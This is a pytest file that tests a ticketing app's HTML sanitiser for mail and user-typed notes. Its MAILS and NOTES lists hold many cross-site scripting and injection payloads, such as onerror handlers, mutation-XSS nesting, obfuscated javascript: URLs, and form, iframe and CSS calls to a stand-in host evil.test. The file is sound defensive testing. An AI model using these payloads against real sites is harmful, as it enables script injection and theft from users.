"""What mails and people write never becomes anything that loads, runs, asks or leads astray."""

from html.parser import HTMLParser

import pytest

from apps.tickets.rules import pictures
from apps.tickets.writing import html_of, html_of_mail

DIGEST = "a" * 64
KEPT = f'src="cid:{DIGEST}"'
ALLOWED = {
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "width", "height", "loading"},
}
TAGS = {
    *("a", "b", "blockquote", "br", "code", "div", "em", "i", "img", "li", "mark", "p", "pre"),
    *("span", "strong", "table", "tbody", "td", "tr", "u", "ul"),
}
MAILS = [
    f'<img {KEPT} alt="a><svg onload=alert(1)>">',
    f"<a href=https://x.test title='<img {KEPT}>'>y</a>",
    f"<a href=https://x.test title='&lt;img {KEPT} alt=&quot;b&quot;&gt;'>y</a>",
    f"<img {KEPT} alt='&quot;&gt;&lt;form action=https://evil.test&gt;'>",
    "<svg><math><mtext><img src=x onerror=alert(1)></mtext></math></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img alt="--&gt;&lt;img src=1 onerror=a&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=a></template><select><template><style></select><img src=x>",
    "<xmp><img src=x onerror=1></xmp><plaintext><img src=x onerror=1>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
    "<base href=https://evil.test/><a href=x>r</a><a href=/settings/>s</a><a href=?x>q</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<form action=https://evil.test><input name=p><button formaction=x>go</button></form>",
    "<a href='data:text/html,<script>1</script>'>d</a><a href=blob:https://x/1>b</a>",
    "<a href='java\tscript:a'>j</a><a href='&#106;avascript:a'>k</a><a href=' javascript:a'>l</a>",
    "<a href='\u2028javascript:a'>j</a><a href='\x01javascript:a'>k</a><a href=//evil.test>m</a>",
    "<p style='background:url(https://evil.test)' id=x class=picture hx-get=/x onclick=a>s</p>",
    "<p style='b\\61 ckground:u\\72l(//evil.test)'>s</p><style>@import '//evil.test';</style>",
    "<table background=https://evil.test><tr><td background=x>1</td></tr></table>",
    "<video src=x></video><iframe src=//evil.test></iframe><object data=x></object><link href=//x>",
    "<a href=https://x.test ping=https://evil.test target=_blank download>p</a>",
    f"<img <img {KEPT}> onerror=a src='https://evil.test/y.png' width=50 alt=hey>",
    "<im<img src=x>g src=x onerror=alert(1)><dialog open>d</dialog><details ontoggle=a>x</details>",
    '<img alt="<a href=javascript:a>" src="https://evil.test/&quot;onmouseover=a">',
]
NOTES = [
    "[a](javascript:alert(1)) [c](data:text/html;base64,PHM+) ![d](https://x)",
    '<https://x.test/"onclick=1> <svg onload=a> `<script>`',
    f'[x](https://x.test "<img {KEPT}>")',
    "[a]\n\n[a]: javascript:alert(1)",
]


class Reader(HTMLParser):
    """What a browser would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ALLOWED.get(tag, ()):
                self.wrong.append(f"{tag} {name}")
            if name == "src" and value != f"/here/{DIGEST}":
                self.wrong.append(f"src={value}")
            if name == "href" and not value.startswith(("https://", "/here/")):
                self.wrong.append(f"href={value}")


def wrong_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong


@pytest.mark.parametrize("markup", MAILS)
def test_a_mail(markup):
    for came in (markup, pictures.place(markup, {"x": ("n", DIGEST)})):
        safe = html_of_mail(came)
        assert wrong_in(pictures.draw(safe, lambda digest: f"/here/{digest}")) == []
        assert wrong_in(pictures.as_words(safe)) == []
        assert html_of_mail(safe) == safe, "cleaning it again changes nothing"


@pytest.mark.parametrize("words", NOTES)
def test_what_people_type(words):
    assert wrong_in(html_of(words)) == []


def test_the_reader_sees_what_is_wrong():
    assert wrong_in("<svg onload=a><img src=x><a href=/x>") != []
